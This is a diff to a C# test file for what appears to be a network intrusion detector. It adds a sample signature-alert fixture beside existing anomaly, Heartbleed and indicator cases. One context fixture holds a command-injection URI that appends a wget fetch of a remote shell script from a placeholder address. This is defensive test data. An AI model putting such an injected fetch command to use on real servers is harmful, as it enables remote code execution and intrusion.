@@ -117,6 +117,7 @@ public class DetectorTests
         ["slow-requests"] = () => OutsideDetectorTests.Slow(40),
         ["crash-packet"] = () => new Scene().Claims("10.0.1.5", ClaimKind.Anomaly, "urgent pointer of zero (CVE-2019-12255)", "tcp", "tcp urgent pointer"),
         ["stream-evasion"] = () => new Scene().Claims("10.0.1.5", ClaimKind.Anomaly, "stream overlap with different content", "tcp", "tcp segments"),
+        ["signature-alert"] = () => new Scene().Says("alerts", "203.0.113.9", "10.0.9.9", 80, """{"signature_id":2024897,"msg":"a known attack","priority":1,"direction":"to_server","classtype":"web-application-attack","packet":7}"""),
         ["indicator-hit"] = () => new Scene(indicators: IndicatorSet.Of([new Indicator(IndicatorKind.Address, "203.0.113.9") { Source = "a list" }])).Conversation("10.0.1.5", "203.0.113.9", 443, service: "ssl"),
         ["heartbleed"] = () => new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","heartbeat_overread":16381}"""),
         ["web-attack"] = () => new Scene().Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/cgi?x=;wget http://203.0.113.9/a.sh","status_code":404}"""),
